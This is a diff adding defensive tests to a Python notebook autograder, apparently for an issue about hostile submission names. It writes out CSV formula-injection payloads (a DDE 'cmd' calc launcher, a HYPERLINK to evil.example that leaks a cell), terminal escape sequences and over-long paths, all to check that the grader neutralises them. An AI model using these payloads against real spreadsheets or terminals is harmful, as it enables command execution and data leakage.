@@ -1,13 +1,21 @@
-"""Grading chapter 1 end to end: full marks, zero, exactly one lost exercise, an invalid file."""
+"""Grading chapter 1 end to end: full marks, zero, exactly one lost exercise, an invalid file.
 
+The same batch holds hostile entries that need no kernel (issue #19): names the file system refuses (3), names
+that are spreadsheet formulas or terminal escape sequences (6), a chapter-2 notebook named as chapter 1 with its
+metadata stripped (8).
+"""
+
+import contextlib
 import csv
+import io
+import json
 import shutil
 import zipfile
 
 import nbformat
 import pytest
 
-from autograder import course, grade, report
+from autograder import course, grade, report, safe_text
 from tests.notebook_answers import answered, delegating
 
 pytestmark = pytest.mark.grading
@@ -28,6 +36,33 @@ def _answered(wrong=False):
     return answered(CHAPTER, _wrong if wrong else None)
 
 
+# Issue #19's hostile entries, none of which needs a kernel. 3: names the file system refuses.
+TOO_LONG = "x" * 300 + ".ipynb"  # one name over 255 bytes
+TOO_DEEP = "/".join(["d" * 250] * 20) + "/deep.ipynb"  # a path over 4096 bytes
+# 6: names that are formulas (each an invalid notebook, so graded without a kernel) and escape sequences
+FORMULAS = {"=1+2": "=1+2.ipynb", "+cmd|' -C calc'!A0": "+cmd|' -C calc'!A0.ipynb",
+            "2+3": "-2+3.ipynb",  # the id loses the name's leading '-', the file column keeps it
+            "@SUM(A1)": "@SUM(A1).ipynb"}
+ESCAPES = "\x1b]0;owned\x07\x1b[2J\u202eevil\r\n.txt"  # sets the title, clears the screen, reverses the text
+# 8: chapter 2's notebook, named as chapter 1, its notebook and cell metadata stripped (as Colab may)
+NAMED_AS_CH1 = "eve_01_rooflines.ipynb"
+
+
+def _stripped(chapter):
+    nb = json.loads((course.CHAPTERS / f"{chapter}.ipynb").read_text(encoding="utf-8"))
+    for c in nb["cells"]:
+        c.pop("id", None)
+        c["metadata"] = {}
+    nb["metadata"] = {}
+    return json.dumps(nb)
+
+
+def _hostile_entries():
+    entries = [(TOO_LONG, nbformat.writes(_answered())), (TOO_DEEP, nbformat.writes(_answered())),
+               (ESCAPES, "not a notebook"), (NAMED_AS_CH1, _stripped("02_tpus"))]
+    return entries + [(name, "{ not json") for name in FORMULAS.values()]
+
+
 @pytest.fixture(scope="module")
 def graded(tmp_path_factory):
     tmp = tmp_path_factory.mktemp("grading")
@@ -43,9 +78,15 @@ def graded(tmp_path_factory):
     with zipfile.ZipFile(archive, "w") as zf:
         for p in subs.rglob("*.ipynb"):
             zf.write(p, p.relative_to(subs))
+        for name, data in _hostile_entries():
+            zf.writestr(name, data)
     out = tmp / "out"
-    results = {r.student: r for r in grade.grade(archive, CHAPTER, out, unrestricted=frozenset({"delegator_open"}))}
-    rows = {row["student"]: row for row in csv.DictReader((out / "grades.csv").open())}
+    console = io.StringIO()
+    with contextlib.redirect_stdout(console):
+        results = {r.student: r for r in grade.grade(archive, CHAPTER, out,
+                                                     unrestricted=frozenset({"delegator_open"}))}
+    (tmp / "console.txt").write_text(console.getvalue(), encoding="utf-8")
+    rows = {safe_text.uncell(row["student"]): row for row in csv.DictReader((out / "grades.csv").open())}
     return results, rows, out
 
 
@@ -159,3 +200,78 @@ def test_feedback_a_student_understands(graded):
         text = page.read_text()
         assert not [line for line in hidden if line in text], page.name
         assert page.stat().st_mode & 0o777 == 0o644, page.name
+
+
+def _csv_cells(path):
+    with path.open(encoding="utf-8", newline="") as f:
+        return list(csv.reader(f))
+
+
+def test_an_entry_the_file_system_refuses_is_its_own_row_not_the_end_of_the_batch(graded):
+    """Issue #19, 3: a name too long, a path too deep: each is a skipped row of submissions.csv saying why, and
+    everyone else is graded (grades.csv written, the honest neighbour's full marks)."""
+    results, rows, out = graded
+    assert results["alice"].status == "graded" and results["alice"].score == results["alice"].max_score > 0
+    assert rows["alice"]["score"] == f"{results['alice'].max_score:g}"
+    manifest = {safe_text.uncell(r[0]): r for r in _csv_cells(out / "submissions.csv")[1:]}
+    for name in (TOO_LONG, TOO_DEEP):
+        _, student, use, why = manifest[name]
+        assert (student, use) == ("", "skipped") and "File name too long" in why, why
+    console = (out.parent / "console.txt").read_text(encoding="utf-8")
+    assert f"  {TOO_LONG}: bad zip entry, not unpacked: OSError: File name too long" in console
+
+
+def test_csv_cells_and_console_lines_are_safe_to_open(graded, tmp_path):
+    """Issue #19, 6: no cell of grades.csv, grades_long.csv, submissions.csv or canvas.csv starts a formula; the
+    value is one apostrophe away (safe_text.uncell); scores are bare numbers; no control character or escape
+    sequence from an entry's name reaches a CSV or the console, where it is shown escaped."""
+    results, rows, out = graded
+    hostile_roster = [{"student": "alice", "name": '=HYPERLINK("http://evil.example/?"&A1;"open")', "id": "101",
+                       "sis_id": "-3+4", "login": "@SUM(A1)", "section": "+A\x1b[2J"},
+                      {"student": "=1+2", "name": "\tTab Start", "id": "102", "sis_id": "\r=1", "login": "",
+                       "section": ""}]
+    report.write_canvas_csv(out / "canvas.csv", CHAPTER, list(results.values()), hostile_roster,
+                            results["alice"].max_score)
+    triggers = ("=", "+", "-", "@", "\t", "\r")
+    for name in ("grades.csv", "grades_long.csv", "submissions.csv", "canvas.csv"):
+        text = (out / name).read_text(encoding="utf-8")
+        assert not [c for c in text if c in "\x1b\x07\u202e"], name
+        for row in _csv_cells(out / name):
+            assert not [c for c in row if c.startswith(triggers)], (name, row)
+    grades = {safe_text.uncell(r[0]): r for r in _csv_cells(out / "grades.csv")[1:]}
+    for student, file in FORMULAS.items():
+        assert results[student].status == "invalid notebook" and results[student].score == 0
+        assert grades[student][6] == "'" + file  # the file column
+        assert grades[student][0] == (student if student == "2+3" else "'" + student)  # the student column
+        assert grades[student][2] == "0"
+    long = [r for r in _csv_cells(out / "grades_long.csv")[1:] if safe_text.uncell(r[0]) == "=1+2"]
+    assert long and all(r[0] == "'=1+2" for r in long)
+    # numbers are bare (a spreadsheet imports them as numbers), text is quoted
+    max_score = f"{results['alice'].max_score:g}"
+    assert f'"alice","{CHAPTER}",{max_score},{max_score},"graded"' in (out / "grades.csv").read_text()
+    canvas = _csv_cells(out / "canvas.csv")
+    assert canvas[2] == ["'" + hostile_roster[0]["name"], "101", "'-3+4", "'@SUM(A1)", "'+A\\x1b[2J", max_score]
+    assert canvas[3][0] == "\\x09Tab Start" and canvas[3][2] == "\\x0d=1" and canvas[3][5] == "0"
+    assert [safe_text.uncell(c) for c in canvas[2][:5]] == [hostile_roster[0][k] for k in
+                                                              ("name", "id", "sis_id", "login", "section")]
+    assert safe_text.csv_text([["-1", -1, 2.5, "'quoted"]]) == "\"'-1\",-1,2.5,\"''quoted\"\r\n"
+    # an entry named with escape sequences: escaped in submissions.csv and on the console, recoverable
+    shown = safe_text.printable(ESCAPES)
+    assert shown == "\\x1b]0;owned\\x07\\x1b[2J\\u202eevil\\x0d\\x0a.txt" and safe_text.unescape(shown) == ESCAPES
+    manifest = {r[0]: r for r in _csv_cells(out / "submissions.csv")[1:]}
+    assert manifest[shown][2] == "unmatched"
+    console = (out.parent / "console.txt").read_text(encoding="utf-8")
+    assert f"  {shown}: not a notebook (.ipynb), ignored" in console
+    assert not [c for c in console if c in "\x1b\x07\u202e\r"]
+
+
+def test_a_notebook_of_another_chapter_is_wrong_chapter_by_its_content(graded):
+    """Issue #19, 8: chapter 2's notebook named as chapter 1, metadata stripped: "wrong chapter" (decided by its
+    cells against the released chapters), not "partially graded, no answer found"."""
+    results, rows, out = graded
+    eve = results["eve"]
+    assert (eve.status, eve.score, eve.detail) == ("wrong chapter", 0, "this is 02_tpus (from its content)")
+    manifest = {r["file"]: r for r in csv.DictReader((out / "submissions.csv").open(encoding="utf-8"))}
+    assert manifest[NAMED_AS_CH1]["why"] == "chapter from content"
+    assert manifest["alice.ipynb"]["why"] == "chapter from content"
+    assert results["alice"].score == results["alice"].max_score
